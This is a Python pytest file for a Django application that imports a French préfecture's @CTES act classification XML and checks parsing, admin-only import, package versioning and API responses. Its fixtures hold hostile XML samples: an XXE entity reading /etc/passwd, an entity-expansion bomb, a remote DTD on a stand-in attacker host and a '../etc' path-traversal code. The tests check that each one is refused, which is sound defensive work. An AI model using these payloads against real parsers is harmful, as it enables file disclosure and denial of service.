"""The préfecture's classification (@CTES RetourClassification) imported per collectivité: read
safely (malicious files refused unread), stored, shown; then the @CTES package names its
version and accepts its piece types, and acts take its matières."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import encode_multipart
from django.urls import reverse
from lxml import etree

from core.errors import DomainError
from core.roles import Role
from deliberations import services
from deliberations.ctes.classification import RULE_CLASSIFICATION, read_classification
from deliberations.models import CtesClassification
from deliberations.rules import ctes as rules
from tests.deliberations.test_acts import adopted  # noqa: F401  (fixture)
from tests.deliberations.test_ctes_package import act  # noqa: F401  (fixture)
from tests.factories import member

pytestmark = pytest.mark.django_db

A = f"{{{rules.NAMESPACE}}}"
PROLOG = '<?xml version="1.0" encoding="ISO-8859-1"?>'
OPEN = f'<actes:RetourClassification xmlns:actes="{rules.NAMESPACE}">'


def classification(date_text: str = "2024-01-15", natures: str | None = None, matieres: str | None = None) -> bytes:
    """A RetourClassification written for these tests from the message's structure."""
    natures = (
        natures
        if natures is not None
        else """
    <actes:NatureActe actes:CodeNatureActe="1" actes:Libelle="Délibérations" actes:TypeAbrege="DE">
      <actes:TypePJNatureActe actes:CodeTypePJ="99_DE" actes:Libelle="Délibération"/>
      <actes:TypePJNatureActe actes:CodeTypePJ="75_CV" actes:Libelle="Convention de subvention"/>
      <actes:TypePJNatureActe actes:CodeTypePJ="99_AU" actes:Libelle="Autre document"/>
    </actes:NatureActe>
    <actes:NatureActe actes:CodeNatureActe="4" actes:Libelle="Contrats, conventions et avenants" actes:TypeAbrege="CC">
      <actes:TypePJNatureActe actes:CodeTypePJ="99_CO" actes:Libelle="Contrat, convention et avenant"/>
    </actes:NatureActe>"""
    )
    matieres = (
        matieres
        if matieres is not None
        else """
    <actes:Matiere1 actes:CodeMatiere="7" actes:Libelle="Finances locales">
      <actes:Matiere2 actes:CodeMatiere="5" actes:Libelle="Subventions">
        <actes:Matiere3 actes:CodeMatiere="1" actes:Libelle="Subventions aux associations"/>
      </actes:Matiere2>
    </actes:Matiere1>
    <actes:Matiere1 actes:CodeMatiere="1" actes:Libelle="Commande publique">
      <actes:Matiere2 actes:CodeMatiere="4" actes:Libelle="Autres types de contrats"/>
    </actes:Matiere1>"""
    )
    return f"""{PROLOG}
{OPEN}
  <actes:DateClassification>{date_text}</actes:DateClassification>
  <actes:NaturesActes>{natures}
  </actes:NaturesActes>
  <actes:Matieres>{matieres}
  </actes:Matieres>
</actes:RetourClassification>
""".encode("iso-8859-1")


def test_the_file_is_read_into_its_date_matieres_and_piece_types():
    found = read_classification(classification())
    assert found.classified_on == date(2024, 1, 15)
    assert found.matieres == {
        "7": "Finances locales",
        "7.5": "Subventions",
        "7.5.1": "Subventions aux associations",
        "1": "Commande publique",
        "1.4": "Autres types de contrats",
    }
    assert found.piece_types == {
        "DE": [("99_DE", "Délibération"), ("75_CV", "Convention de subvention"), ("99_AU", "Autre document")],
        "CC": [("99_CO", "Contrat, convention et avenant")],
    }


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
{OPEN}<actes:DateClassification>2024-01-15</actes:DateClassification>
<actes:Matieres><actes:Matiere1 actes:CodeMatiere="7" actes:Libelle="&x;">
<actes:Matiere2 actes:CodeMatiere="5" actes:Libelle="S"/></actes:Matiere1></actes:Matieres>
</actes:RetourClassification>""".encode()
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    f"{OPEN}<actes:DateClassification>&d;</actes:DateClassification></actes:RetourClassification>"
).encode()
REMOTE_DTD = (
    f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">{OPEN}'
    "<actes:DateClassification>2024-01-15</actes:DateClassification></actes:RetourClassification>"
).encode()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (XXE, "DTD"),
        (BOMB, "DTD"),
        (REMOTE_DTD, "DTD"),
        (b"not xml at all", "XML lisible"),
        (
            f'<actes:ARActe xmlns:actes="{rules.NAMESPACE}" actes:IDActe="x"/>'.encode(),
            "actes:RetourClassification",
        ),
        (b"<RetourClassification><DateClassification>2024-01-15</DateClassification></RetourClassification>", "espace"),
        (classification(date_text="15/01/2024"), "DateClassification"),
        (classification(matieres='<actes:Matiere1 actes:CodeMatiere="7" actes:Libelle="Finances"/>'), "niveau 2"),
        (classification(matieres='<actes:Matiere1 actes:CodeMatiere="x7" actes:Libelle="F"/>'), "CodeMatiere"),
        (
            classification(
                natures='<actes:NatureActe actes:CodeNatureActe="1" actes:TypeAbrege="DE">'
                '<actes:TypePJNatureActe actes:CodeTypePJ="../etc" actes:Libelle="x"/></actes:NatureActe>'
            ),
            "Type de pièce",
        ),
        (b"<" + b"a" * (5 * 1024 * 1024), "trop lourd"),
    ],
)
def test_malformed_and_malicious_files_are_refused_unread(data, words):
    with pytest.raises(DomainError) as caught:
        read_classification(data)
    assert words in caught.value.message
    assert "root:" not in caught.value.message  # /etc/passwd never read


# --- imported, then used by the package, the annexes and the matières -------------------------


def _import(organization, data: bytes = b"") -> CtesClassification:
    admin = member(organization, Role.ADMINISTRATOR)
    return services.import_classification(
        user=admin, organization=organization, data=data or classification(), filename="classification.xml"
    )


def test_only_an_administrator_imports_and_a_new_import_replaces_the_previous(organization):
    clerk = member(organization, Role.CLERK)
    with pytest.raises(PermissionDenied):
        services.import_classification(user=clerk, organization=organization, data=classification())
    first = _import(organization)
    second = _import(organization, classification(date_text="2025-02-01"))
    assert first.pk == second.pk and CtesClassification.objects.get().classified_on == date(2025, 2, 1)
    assert [h.classified_on for h in second.history.order_by("history_date")] == [date(2024, 1, 15), date(2025, 2, 1)]


def _package_xml(api, item) -> tuple[list[str], etree._Element]:
    response = api.get(f"/deliberations/{item.pk}/ctes-package")
    assert response.status_code == 200, response.content[:300]
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    return names, etree.fromstring(archive.read(names[0]))


def test_the_package_names_the_imported_version_and_takes_its_piece_types(act, organization, api_for):  # noqa: F811
    council, item = act
    api = api_for(council.clerk)
    _names, root = _package_xml(api, item)
    assert root.find(f"{A}ClassificationDateVersion").text == "2019-08-29"  # the built-in default
    plan = item.annexes.get(title="Plan de financement")
    with pytest.raises(DomainError, match="75_CV"):  # unknown to the built-in list
        services.update_annex(user=council.clerk, annex=plan, type_code="75_CV")

    _import(organization)
    services.update_annex(user=council.clerk, annex=plan, type_code="75_CV")
    names, root = _package_xml(api, item)
    assert root.find(f"{A}ClassificationDateVersion").text == "2024-01-15"
    assert names[2].startswith("75_CV-034-213401722-20240326-2024_001-DE")
    assert [n.text for n in root.iter(f"{A}NomFichier")][1] == names[2]
    page = api_for(council.clerk).client  # the act's page shows the version and the type's title
    page.force_login(council.clerk)
    html = page.get(reverse("deliberations:detail", args=[item.pk])).content.decode()
    assert "version du 15 janvier 2024" in html and "importée de la préfecture" in html
    assert "75_CV — Convention de subvention" in html


def test_acts_take_the_matieres_of_the_imported_classification(council, organization):
    assert council.item(None, title="Vœu", subject_code="9.4").subject_code == "9.4"  # built-in nomenclature
    _import(organization)
    assert council.item(None, title="Subvention", subject_code="7.5.1").subject_code == "7.5.1"
    with pytest.raises(DomainError) as caught:
        council.item(None, title="Vœu", subject_code="9.4")
    assert "classification de la préfecture" in caught.value.message and caught.value.field == "subject_code"


# --- the page and the API ---------------------------------------------------------------------


def test_the_page_imports_for_an_administrator_and_refuses_the_others(council, organization, client_for):
    url = reverse("deliberations:assembly_classification", args=[council.assembly.pk])
    admin = client_for(member(organization, Role.ADMINISTRATOR))
    page = admin.get(url).content.decode()
    assert "Aucune classification importée" in page and "29 août 2019" in page and 'type="file"' in page
    response = admin.post(url, {"file": SimpleUploadedFile("retour.xml", XXE)})
    assert response.status_code == 200 and "DTD" in response.content.decode()
    assert not CtesClassification.objects.exists()
    response = admin.post(url, {"file": SimpleUploadedFile("retour.xml", classification())}, follow=True)
    page = response.content.decode()
    assert "15 janvier 2024" in page and "75_CV" in page and "retour.xml" in page
    clerk = client_for(council.clerk)
    assert 'type="file"' not in clerk.get(url).content.decode()
    assert clerk.post(url, {"file": SimpleUploadedFile("r.xml", classification())}).status_code == 403


def _post_file(api, organization_id: int, data: bytes):
    body = encode_multipart("BoUnDaRy", {"file": SimpleUploadedFile("retour.xml", data)})
    return api.post(
        f"/organizations/{organization_id}/ctes-classification",
        body,
        content_type="multipart/form-data; boundary=BoUnDaRy",
    )


def test_the_api_imports_and_answers_the_rule(organization, other_organization, api_for):
    api = api_for(member(organization, Role.ADMINISTRATOR))
    bad = _post_file(api, organization.pk, BOMB)
    assert bad.status_code in (400, 409, 422) and bad.json()["rule"] == RULE_CLASSIFICATION
    response = _post_file(api, organization.pk, classification())
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["classified_on"] == "2024-01-15" and body["matieres"]["7.5"] == "Subventions"
    assert body["piece_types"]["CC"] == [["99_CO", "Contrat, convention et avenant"]]
    assert _post_file(api, other_organization.pk, classification()).status_code == 404
    assert _post_file(api_for(member(organization, Role.CLERK)), organization.pk, classification()).status_code == 403
